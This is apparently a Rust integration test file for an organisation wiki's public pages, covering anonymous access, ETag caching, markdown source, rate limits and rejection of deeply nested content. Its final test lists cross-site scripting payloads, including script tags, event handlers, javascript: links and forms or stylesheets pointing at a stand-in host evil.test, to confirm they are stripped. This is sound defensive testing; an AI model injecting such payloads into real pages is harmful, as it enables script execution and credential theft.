//! The public wiki: the pages for readers without an account, and what it keeps from their
//! browsers.

use std::num::NonZeroU32;

use frontdesk_server::clock::Clock;
use frontdesk_server::database::Location;
use frontdesk_server::identity::IdentitySettings;
use frontdesk_server::server::Settings;
use frontdesk_tests::blocking::{Answer, Caller, Organization, answer_to, world};
use frontdesk_tests::run;
use frontdesk_tests::world::identity;
use serde_json::json;

use super::stage;

/// A page of an organisation's wiki.
struct Page {
    status: u16,
    headers: reqwest::header::HeaderMap,
    text: String,
}

impl Page {
    fn get(organization: &Organization, path: &str, accept: &str, known: &str) -> Page {
        let url = format!(
            "{}/learn/wiki/~organisation-{}{path}",
            world().url(),
            organization.id
        );
        let request = reqwest::Client::new().get(url).header("accept", accept);
        let answer = run(request.header("if-none-match", known).send()).expect("an answer");
        Page {
            status: answer.status().as_u16(),
            headers: answer.headers().clone(),
            text: run(answer.text()).expect("a text"),
        }
    }

    fn read(organization: &Organization, path: &str) -> Page {
        Page::get(organization, path, "text/html", "")
    }

    fn header(&self, name: &str) -> &str {
        let value = self.headers.get(name);
        value.and_then(|value| value.to_str().ok()).unwrap_or("")
    }
}

fn publish(author: &mut Caller, title: &str, content: &str, parent: Option<&str>) -> Answer {
    let metadata = parent.map_or(json!({}), |slug| json!({ "parent_slug": slug }));
    let article = json!({
        "title": title, "content": content, "metadata": metadata, "status": "published",
    });
    let made = author.call("create_wiki_article", article);
    made.output();
    made
}

#[test]
fn published_articles_are_read_without_signing_in_and_others_are_not() {
    let (organization, mut author) = stage();
    publish(&mut author, "House <rules>", "Be *kind*.", None);
    publish(
        &mut author,
        "Keys",
        "See [the rules](house-rules).",
        Some("house-rules"),
    );
    let draft =
        json!({ "title": "Salaries", "content": "Much", "metadata": { "parent_slug": "keys" } });
    author.output("create_wiki_article", draft);

    let titles = Page::read(&organization, "");
    assert_eq!(titles.status, 200);
    let id = organization.id;
    let nested = format!(
        "<ul><li><a href=\"~organisation-{id}/house-rules\">House &lt;rules&gt;</a>\n\
         <ul><li><a href=\"~organisation-{id}/keys\">Keys</a>\n</ul></ul>"
    );
    assert!(titles.text.contains(&nested), "{}", titles.text);
    assert!(!titles.text.contains("Salaries"), "{}", titles.text);

    let article = Page::read(&organization, "/keys");
    let link = "See <a href=\"house-rules\"";
    assert!(article.text.contains(link), "{}", article.text);
    assert!(
        article.text.contains("aria-current=\"page\">Keys</a>"),
        "{}",
        article.text
    );
    assert_eq!(Page::read(&organization, "/salaries").status, 404);
    assert_eq!(Page::read(&Organization::create(), "/keys").status, 404);

    let archive = json!({ "slug": "keys", "status": "archived" });
    author.output("publish_wiki_article", archive);
    assert_eq!(Page::read(&organization, "/keys").status, 404);
}

#[test]
fn each_organisation_has_its_own_wiki_and_the_bare_address_lists_them() {
    let (organization, mut author) = stage();
    publish(&mut author, "Keys", "Two.", None);
    let silent = Organization::create();
    let read = |path: &str| {
        let url = format!("{}/learn/wiki{path}", world().url());
        let answer = run(reqwest::Client::new().get(url).send()).expect("an answer");
        let status = answer.status().as_u16();
        (status, run(answer.text()).expect("a text"))
    };
    let named = format!(
        "~organisation-{}\">{}</a>",
        organization.id,
        organization.name()
    );
    for (path, status, folder) in [
        ("", 200, "wiki/"),
        ("/keys", 404, ""),
        ("/~nowhere", 404, ""),
        ("/~nowhere/keys", 404, "../"),
    ] {
        let (found, text) = read(path);
        assert_eq!(found, status, "{path}");
        assert!(
            text.contains(&format!("<a href=\"{folder}{named}")),
            "{path}: {text}"
        );
        assert!(!text.contains(&silent.name()), "{path}: {text}");
    }
    let (status, text) = read(&format!("/~organisation-{}", silent.id));
    assert_eq!(status, 200);
    assert!(text.contains("Nothing is published here yet"), "{text}");
    assert_eq!(read("/organisation/keys").0, 404);
}

#[test]
fn the_source_is_had_as_markdown_and_a_page_that_is_known_is_not_sent_again() {
    let (organization, mut author) = stage();
    let content = "# Keys\n\n<b>Two</b> of them.\n";
    publish(&mut author, "Keys", content, None);
    let source = Page::get(&organization, "/keys", "text/markdown", "");
    assert_eq!(
        (source.header("content-type"), &*source.text),
        ("text/markdown; charset=utf-8", content)
    );
    let titles = Page::get(&organization, "", "text/markdown", "");
    assert!(
        titles.text.contains("- [Keys](~organisation-"),
        "{}",
        titles.text
    );

    let page = Page::read(&organization, "/keys");
    assert_eq!(page.header("vary"), "accept");
    assert!(page.header("cache-control").starts_with("public"));
    let known = Page::get(&organization, "/keys", "text/html", page.header("etag"));
    assert_eq!((known.status, &*known.text), (304, ""));
    let change = json!({ "slug": "keys", "content": "Three." });
    author.output("update_wiki_article", change);
    let changed = Page::get(&organization, "/keys", "text/html", page.header("etag"));
    assert_eq!(changed.status, 200);
    assert!(changed.text.contains("<p>Three.</p>"), "{}", changed.text);
}

#[test]
fn the_tag_changes_with_title_text_navigation_and_form() {
    let (organization, mut author) = stage();
    publish(&mut author, "Rules", "Be kind.", None);
    publish(&mut author, "Keys", "Two.", None);
    let mut tags = std::collections::BTreeSet::new();
    let mut is_new = |path: &str, accept: &str, because: &str| {
        let page = Page::get(&organization, path, accept, "");
        assert_eq!(page.status, 200, "{because}");
        let tag = page.header("etag").to_owned();
        let known = Page::get(&organization, path, accept, &tag);
        assert_eq!((known.status, &*known.text), (304, ""), "{because}");
        assert!(tags.insert(tag), "{because}");
    };
    is_new("/keys", "text/html", "an article");
    is_new("", "text/html", "the titles");
    is_new("/keys", "text/markdown", "its source");
    for (change, because) in [
        (json!({ "slug": "keys", "title": "All keys" }), "its title"),
        (json!({ "slug": "keys", "content": "Three." }), "its text"),
        (
            json!({ "slug": "rules", "title": "House rules" }),
            "another title",
        ),
        (
            json!({ "slug": "rules", "new_slug": "house" }),
            "another address",
        ),
        (
            json!({ "slug": "keys", "metadata": { "parent_slug": "house" } }),
            "its place",
        ),
    ] {
        author.output("update_wiki_article", change);
        is_new("/keys", "text/html", because);
        if because != "its text" {
            is_new("", "text/html", because);
        }
    }
    publish(&mut author, "Alarm", "1234", None);
    is_new("/keys", "text/html", "another article");
}

/// Texts that once took seconds and gigabytes to render.
fn too_deep() -> Vec<String> {
    let tags = (0..2000).map(|number| format!("<b title={number}>"));
    vec![
        ">".repeat(24_000),
        "> ".repeat(100_000),
        "1. ".repeat(80_000),
        (0..400).map(|depth| "  ".repeat(depth) + "- a\n").collect(),
        "<div>\n".repeat(40_000),
        tags.collect::<String>() + &"<p>x".repeat(50_000),
        "*a **b ".repeat(9_000) + &"b** a* ".repeat(9_000),
    ]
}

#[test]
fn a_text_that_nests_too_deeply_is_refused_and_one_that_is_stored_is_shown_as_written() {
    let (organization, mut author) = stage();
    publish(&mut author, "Deep", "Two.", None);
    for content in too_deep() {
        let create = json!({ "title": "Deeper", "content": content, "status": "published" });
        let created = author.call("create_wiki_article", create);
        created.refuses("invalid_argument", "content");
        let update = json!({ "slug": "deep", "content": content });
        let updated = author.call("update_wiki_article", update);
        updated.refuses("invalid_argument", "content");
        let says = updated.tool_error()["message"].to_string();
        assert!(says.contains("more than 32 levels"), "{says}");

        let sql = "update learn.wiki_articles set content = $2 where organization_id = $1";
        let owner = world().owner();
        let stored = owner.execute(sql, &[&organization.id.0, &content]);
        stored.expect("stored");
        drop(owner);
        let page = Page::read(&organization, "/deep");
        assert_eq!(page.status, 200);
        assert!(page.text.contains("so its source is shown"));
        assert!(page.text.contains("<title>Deep – "));
        assert!(page.text.len() < 5 * content.len() + 10_000);
        assert!(page.text.matches("<b").count() < 20);
    }
    let most = ">".repeat(32) + " a\n\n- b\n  - c\n    - d\n";
    let kept = json!({ "slug": "deep", "content": most });
    author.output("update_wiki_article", kept);
    let page = Page::read(&organization, "/deep");
    assert_eq!(page.text.matches("<blockquote>").count(), 32);
}

#[test]
fn a_network_may_have_so_many_pages() {
    let (organization, mut author) = stage();
    publish(&mut author, "Keys", "Two.", None);
    let settings = Settings {
        identity: IdentitySettings {
            pages_per_minute: NonZeroU32::new(3),
            proxies: 1,
            ..identity()
        },
        clock: Clock::with_manual_limits(),
        ..Settings::local(Location::Memory)
    };
    let server = world().server_with(settings);
    let read = |from: &str, path: &str| {
        let url = format!(
            "{}/learn/wiki/~organisation-{}{path}",
            server.url(),
            organization.id
        );
        let request = reqwest::Client::new().get(url);
        answer_to(request.header("x-forwarded-for", from))
    };
    for path in ["", "/keys", "/nowhere"] {
        assert_ne!(read("203.0.113.1", path).status.as_u16(), 429);
    }
    let refused = read("203.0.113.1", "/keys");
    assert_eq!(refused.status.as_u16(), 429);
    assert!(refused.headers.contains_key("retry-after"));
    // Addresses that the client adds itself do not count.
    let invented = read("198.51.100.7, 203.0.113.1", "/keys");
    assert_eq!(invented.status.as_u16(), 429);
    assert_eq!(read("203.0.113.2", "/keys").status.as_u16(), 200);
}

#[test]
fn nothing_of_an_article_runs_in_a_browser() {
    let (organization, mut author) = stage();
    let attacks = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "[b](javascript:alert(1)) [c](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
        "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[e](vbscript:msgbox) ![f](javascript:alert(1))",
        "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>g</button></form>",
        "<style>@import url(https://evil.test)</style><link rel=stylesheet href=https://evil.test>",
        "<base href=https://evil.test/><meta http-equiv=refresh content=\"0;url=https://evil.test\">",
        "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>h</p>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[x]: javascript:alert(1)\n\n[i][x]",
        "</main></html><script src=//evil.test></script>",
    ];
    publish(
        &mut author,
        "</title><script>alert(1)</script>",
        &attacks.join("\n\n"),
        None,
    );
    let page = Page::read(&organization, "/title-script-alert-1-script");
    assert_eq!(page.status, 200);
    let body = page.text.to_lowercase();
    for tag in [
        "<script", "<svg", "<iframe", "<form", "<input", "<button", "<link", "<base", "<math",
    ] {
        assert!(!body.contains(tag), "{tag}: {}", page.text);
    }
    // One style and two metas belong to the page.
    assert_eq!(
        (
            body.matches("<style").count(),
            body.matches("<meta").count()
        ),
        (1, 2),
        "{}",
        page.text
    );
    let document = body.split("</style>").nth(1).expect("a body");
    for tag in document.split('<').filter_map(|tag| tag.split('>').next()) {
        for word in [" on", "javascript:", "vbscript:", "data:", "style="] {
            assert!(!tag.contains(word), "<{tag}>: {}", page.text);
        }
    }
    let policy = page.header("content-security-policy");
    assert!(
        policy.starts_with("default-src 'none'; style-src 'sha256-"),
        "{policy}"
    );
    assert!(
        !policy.contains("script-src") && !policy.contains("unsafe"),
        "{policy}"
    );
}
